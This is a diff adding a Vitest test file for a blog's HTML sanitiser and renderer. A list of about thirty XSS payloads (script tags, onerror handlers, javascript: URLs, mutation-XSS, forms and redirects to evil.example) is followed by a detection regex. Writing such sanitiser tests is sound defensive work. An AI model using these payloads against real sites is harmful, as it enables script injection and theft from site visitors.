@@ -1,0 +1,124 @@
+import { describe, expect, it } from 'vitest'
+import { cleanArticle } from '#server/services/html/clean-article.ts'
+import { feedArticle } from '#server/services/html/feed-article.ts'
+import { picturesOf, presentArticle } from '#server/services/html/present-article.ts'
+import { storedPost } from '#server/services/html/stored-post.ts'
+
+const host = 'https://example.org'
+const picture = '/storage/v1/object/public/blog-images/a.png'
+const film = 'https://www.youtube-nocookie.com/embed/aqz-KE-bpKQ'
+
+const attacks = [
+  '<script>alert(1)</script>',
+  '<ScRiPt src=//evil.example></sCrIpT>',
+  '<img src=x onerror=alert(1)>',
+  '<img/src="x"/onerror=alert(1)>',
+  '<p onclick="alert(1)" onmouseover=alert(1)>x</p>',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href="\tjava\nscript:alert(1)">x</a>',
+  '<a href="&#106;avascript:alert(1)">x</a>',
+  '<a href="vbscript:alert(1)">x</a>',
+  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+  '<a href="//evil.example">x</a>',
+  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
+  '<iframe src="https://evil.example/embed/aqz-KE-bpKQ"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<iframe src="https://www.youtube.com@evil.example/embed/aqz-KE-bpKQ"></iframe>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<svg><style><img src=x onerror=alert(1)></style></svg>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<p style="position:fixed;inset:0;background:url(//evil.example)">x</p>',
+  '<style>body{display:none}</style>',
+  '<form action="https://evil.example"><input name=p><button>Go</button></form>',
+  '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=//evil.example"><link rel=stylesheet href=//evil.example>',
+  '<p id="page-data" name="root">x</p>',
+  '<a id="root" href="/x">x</a>',
+  '<object data="x"></object><embed src="x"><video src=x onerror=alert(1)></video>',
+  '<div data-film="x" data-surface="paper" class="film fixed inset-0">x</div>',
+  '<textarea><img src=x onerror=alert(1)></textarea>',
+  '<template><img src=x onerror=alert(1)></template>',
+  '<xmp><img src=x onerror=alert(1)></xmp>',
+]
+const dangerous =
+  /<(script|style|svg|math|form|input|button|base|meta|link|object|embed|video|textarea|template|div)\b|\son\w+\s*=|\s(style|id|name|srcdoc)\s*=|(href|src)="(javascript|vbscript|data|\/\/)|evil|inset-0/i
+
+describe.each(attacks)('%s', (attack) => {
+  const written = cleanArticle(`<p>before</p>${attack}<p>after</p>`, host)
+  it('is not stored', () => expect(written).not.toMatch(dangerous))
+  it('is not shown, should it be stored all the same', () => {
+    expect(presentArticle(attack, new Map())).not.toMatch(dangerous)
+    expect(feedArticle(attack, host)).not.toMatch(dangerous)
+  })
+  it('takes no other words with it', () => expect(written).toContain('<p>before</p>'))
+})
+
+describe('what is stored', () => {
+  it('is the same after a second cleaning', () => {
+    const once = cleanArticle(attacks.join('\n'), host)
+    expect(cleanArticle(once, host)).toBe(once)
+  })
+  it('keeps what an article is made of', () => {
+    const article = `<h2>Why</h2><p class="align-center">A <strong>word</strong> &amp; <a href="https://other.example/">a link</a></p><ul><li class="indent-2">one</li></ul><pre><code>a &lt; b</code></pre><table><tbody><tr><td colspan="2">x</td></tr></tbody></table><figure><img alt="A" src="${picture}" /><figcaption>A</figcaption></figure>`
+    expect(cleanArticle(article, host)).toBe(article)
+  })
+  it('does not name its own host, and has films in one spelling', () => {
+    expect(cleanArticle(`<img src="${host}${picture}">`, host)).toBe(`<img alt="" src="${picture}" />`)
+    expect(cleanArticle('<iframe src="https://youtu.be/aqz-KE-bpKQ" width=9></iframe>', host)).toBe(
+      `<iframe src="${film}"></iframe>`,
+    )
+  })
+  it('has the reading time of its words, and an excerpt where nobody wrote one', () => {
+    const content = `<p>${'word '.repeat(401)}</p>`
+    expect(storedPost({ content, excerpt: ' ', reading_time_minutes: 99 }, host)).toMatchObject({
+      reading_time_minutes: 3,
+      excerpt: expect.stringMatching(/^word .*…$/),
+    })
+    expect(storedPost({ content, excerpt: 'Mine' }, host)).toMatchObject({ excerpt: 'Mine' })
+    expect(storedPost({ view_count: 3 }, host)).toEqual({ view_count: 3 })
+  })
+})
+
+describe('what is shown', () => {
+  it('has no second h1, and no level without the one above', () => {
+    const levels = (html: string) =>
+      [...presentArticle(html, new Map()).matchAll(/<h(\d)/g)].map(([, level]) => Number(level))
+    expect(levels('<h1>a</h1><h2>b</h2><h4>c</h4><h4>d</h4><h2>e</h2>')).toEqual([2, 3, 4, 4, 3])
+    expect(levels('<h3>a</h3><h3>b</h3><h2>c</h2><h6>d</h6>')).toEqual([2, 2, 2, 3])
+  })
+  it('keeps the place of a picture, offers it in several widths, and loads it late', () => {
+    const shown = presentArticle(`<img src="${picture}">`, new Map([[picture, { width: 900, height: 600 }]]))
+    expect(shown).toContain('width="900" height="600"')
+    expect(shown).toContain('?width=540 540w')
+    expect(shown).toContain('?width=1080 900w')
+    expect(shown).toContain('loading="lazy"')
+    expect(picturesOf(`<img src="${picture}" /><img src="https://x.example/a.png" />`)).toEqual([picture])
+  })
+  it('asks nothing of another host', () => {
+    const shown = presentArticle(
+      `<img src="https://x.example/a.png" alt="A map"><iframe src="${film}"></iframe>`,
+      new Map(),
+    )
+    expect(shown).not.toMatch(/<(img|iframe)/)
+    expect(shown).toContain('not shown: A map')
+    expect(shown).toMatch(
+      /<a class="film" href="https:\/\/www.youtube.com\/watch\?v=aqz-KE-bpKQ"[^>]*>Play film 1 from YouTube/,
+    )
+  })
+  it('lets code and tables scroll, by keyboard too', () => {
+    const shown = presentArticle('<table><tr><td>a</td></tr></table><pre>b</pre>', new Map())
+    expect(shown).toMatch(/<section class="table-scroll" aria-label="Table 1" tabindex="0"><table>/)
+    expect(shown).toContain('<pre tabindex="0">')
+  })
+  it('tells other sites nothing about the page', () => {
+    expect(presentArticle('<a href="https://x.example">x</a><a href="/blog">y</a>', new Map())).toBe(
+      '<a href="https://x.example" rel="noopener noreferrer">x</a><a href="/blog">y</a>',
+    )
+  })
+})
+
+it('a feed has no address without a host', () => {
+  expect(feedArticle(`<a href="/blog?a=1&amp;b=2">x</a><img src="${picture}">`, `${host}/blog/x`)).toBe(
+    `<a href="https://example.org/blog?a=1&amp;b=2">x</a><img src="${host}${picture}" />`,
+  )
+})
